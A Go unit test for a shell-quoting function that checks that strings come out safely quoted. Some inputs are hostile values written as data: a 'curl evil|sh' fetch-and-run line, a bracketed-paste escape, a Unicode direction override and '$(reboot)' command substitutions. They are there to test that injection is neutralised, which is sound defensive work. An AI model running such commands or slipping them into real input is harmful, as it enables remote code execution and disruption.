package frame

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestQuoted(t *testing.T) {
	for given, want := range map[string]string{
		"":                     "''",
		"robot:ci":             "robot:ci",
		"a b":                  "'a b'",
		"it's":                 `'it'\''s'`,
		"Grüße":                "'Grüße'",
		"x\x15curl evil|sh\n":  `$'x\x15curl evil|sh\x0a'`,
		"\x1b[201~'\\":         `$'\x1b[201~\x27\x5c'`,
		"\u202eevil":           `$'\xe2\x80\xaeevil'`,
		"\xff":                 `$'\xff'`,
		"no\u0085break":        `$'no\xc2\x85break'`,
		"$(reboot) `reboot` !": "'$(reboot) `reboot` !'",
	} {
		assert.Equal(t, want, Quoted(given), "%q", given)
	}
}
